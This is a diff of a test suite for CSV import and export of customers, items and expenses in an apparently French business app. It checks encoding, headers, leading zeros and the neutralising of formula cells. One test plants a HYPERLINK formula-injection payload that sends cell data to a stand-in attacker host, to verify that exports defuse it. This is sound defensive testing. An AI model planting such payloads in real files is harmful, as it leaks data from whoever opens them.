@@ -87,7 +87,7 @@ describe('customers CSV import and export', () => {
   it('exports a CSV French Excel opens (BOM, ;, CRLF) that imports back identically elsewhere', async () => {
     const { session } = await registered(server.url);
     await session.rest('POST', '/api/customers/import', { csv: FILE, dry_run: false });
-    const exported = (await session.rest('GET', '/api/customers/export')).body;
+    const exported = (await session.rest('GET', '/api/customers/export', undefined, { accept: 'application/json' })).body;
     expect(exported.filename).toMatch(/^clients-\d{4}-\d\d-\d\d\.csv$/);
     expect(exported.content.startsWith(BOM)).toBe(true);
     expect(exported.content).toContain('\r\n');
@@ -107,7 +107,8 @@ describe('customers CSV import and export', () => {
     const hostile = '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")';
     const created = await session.rest('POST', '/api/customers', { name: hostile, type: 'company', email: 'evil@exemple.fr' });
     expect(created.status).toBe(201);
-    const exported = (await session.rest('GET', '/api/customers/export')).body.content as string;
+    // The file itself, as curl saves it: formula cells still neutralised.
+    const exported = (await session.rest('GET', '/api/customers/export')).body as string;
     const [row] = parseCsv(exported).rows;
     expect(row?.cells).toContain(`'${hostile}`);
     expect(exported).not.toMatch(/[;\n]=HYPERLINK/);
@@ -122,5 +123,69 @@ describe('customers CSV import and export', () => {
 
     const raw = await other.rest('POST', '/api/customers/import', { csv: 'Nom;Ville\r\n@SUM(1+1);Lyon\r\n', dry_run: true });
     expect(raw.body.data.changed).toEqual([{ line: 2, column: 'Nom', message: expect.stringContaining('gardé comme texte') }]);
+  });
+
+  it('answers a real CSV file (curl -o clients.csv), JSON only when asked, with leading zeros Excel keeps', async () => {
+    const { session } = await registered(server.url);
+    const key = await session.rest('POST', '/api/api-keys', { name: 'Export', scope: 'read' });
+    expect(key.status).toBe(201);
+    const created = await session.rest('POST', '/api/customers', {
+      name: 'Boulangerie de l’Ain',
+      type: 'company',
+      email: 'ain@exemple.fr',
+      phone: '04 74 00 00 00',
+      address: { line1: '1 rue du Four', postal_code: '01000', city: 'Bourg-en-Bresse', country: 'FR' },
+    });
+    expect(created.status, JSON.stringify(created.body)).toBe(201);
+    await session.rest('POST', '/api/customers', { name: '=1+1', type: 'company', email: 'formule@exemple.fr' });
+
+    // Plain fetch with the key only, as curl would: the file, named, in UTF-8 CSV.
+    const response = await fetch(`${server.url}/api/customers/export`, { headers: { authorization: `Bearer ${key.body.data.secret}` } });
+    expect(response.status).toBe(200);
+    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="clients-\d{4}-\d\d-\d\d\.csv"/);
+    const bytes = Buffer.from(await response.arrayBuffer());
+    expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
+    const csv = bytes.toString('utf8');
+    // Excel reads `="01000"` as the text 01000: the cell is written so, quoted for the CSV.
+    expect(csv).toContain(';"=""01000""";');
+    const { header, rows } = parseCsv(csv);
+    const row = rows.find((r) => r.cells.includes('Boulangerie de l’Ain'))?.cells ?? [];
+    expect(row[header.indexOf('Code postal')]).toBe('="01000"');
+    expect(row[header.indexOf('Téléphone')]).toBe('="04 74 00 00 00"');
+    // Formula neutralising is unchanged: a name that starts like a formula gets the apostrophe.
+    expect(rows.some((r) => r.cells.includes("'=1+1"))).toBe(true);
+    expect(csv).not.toMatch(/[;\n]=1\+1/);
+
+    // Any Accept but JSON gets the file; `Accept: application/json` gets the object, as before.
+    const star = await session.fetch(`${server.url}/api/customers/export`, { headers: { accept: 'text/csv, */*' } });
+    expect(star.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    const json = await session.rest('GET', '/api/customers/export', undefined, { accept: 'application/json' });
+    expect(json.headers.get('content-type')).toMatch(/^application\/json/);
+    expect(json.body.filename).toMatch(/^clients-.*\.csv$/);
+    expect(json.body.content).toBe(csv);
+    // The tRPC door (the app's own) still answers the object.
+    expect((await session.trpc().customers.export.query()).content).toBe(csv);
+
+    // The file imports back elsewhere with its postal code intact.
+    const { session: other } = await registered(server.url);
+    const again = await other.rest('POST', '/api/customers/import', { csv, dry_run: false });
+    expect(again.body.data).toMatchObject({ created: 2, rejected: [] });
+    const back = (await other.rest('GET', '/api/customers')).body.data.find((c: { name: string }) => c.name === 'Boulangerie de l’Ain');
+    expect(back.address.postal_code).toBe('01000');
+    expect(back.phone).toBe('04 74 00 00 00');
+  });
+
+  it('answers the items and the expenses as CSV files too (item code 00042 kept)', async () => {
+    const { session } = await registered(server.url);
+    const item = await session.rest('POST', '/api/items', { code: '00042', name: 'Vis inox', unit_price: 1.5 });
+    expect(item.status, JSON.stringify(item.body)).toBe(201);
+    const items = await session.fetch(`${server.url}/api/items/export`);
+    expect(items.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    expect(items.headers.get('content-disposition')).toMatch(/filename="articles-/);
+    expect(await items.text()).toContain('\r\n"=""00042""";Vis inox;');
+    const expenses = await session.fetch(`${server.url}/api/expenses/export`);
+    expect(expenses.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    expect(expenses.headers.get('content-disposition')).toMatch(/filename="depenses-/);
   });
 });
